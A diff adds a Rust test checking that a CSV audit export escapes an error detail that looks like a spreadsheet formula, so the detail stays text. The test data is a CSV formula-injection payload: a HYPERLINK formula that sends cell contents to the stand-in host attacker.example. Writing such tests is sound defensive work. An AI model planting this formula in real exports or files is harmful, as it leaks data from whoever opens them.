@@ -522,6 +522,19 @@ async fn the_audit_exports_as_a_csv_download() {
     assert!(lines[1].contains(",dana,") && lines[2].contains(",erin,"), "oldest first: {}", csv.text);
 }
 
+/// A cell a spreadsheet would run as a formula (text from a client or an upstream, here an
+/// error detail) is exported as text.
+#[tokio::test]
+async fn an_exported_csv_cell_that_looks_like_a_formula_is_kept_as_text() {
+    let s = TestServer::start().await;
+    let formula = r#"=HYPERLINK("http://attacker.example/?"&A1,"details")"#;
+    let record = record_at(EventKind::ToolCall, Outcome::ToolError, "echo", "dana", time::OffsetDateTime::now_utc()).with_detail(formula);
+    store(&s, &[record]).await;
+    let csv = get(&s, "/admin/audit/export?format=csv&tool=echo", None).await;
+    let row = csv.text.lines().nth(1).unwrap_or_default().to_owned();
+    assert!(row.contains(r#""'=HYPERLINK(""http://attacker.example/?""&A1,""details"")""#), "{row}");
+}
+
 /// The JSON-lines export (the default format) has one record per line; a large export streams
 /// in many chunks and arrives whole.
 #[tokio::test]
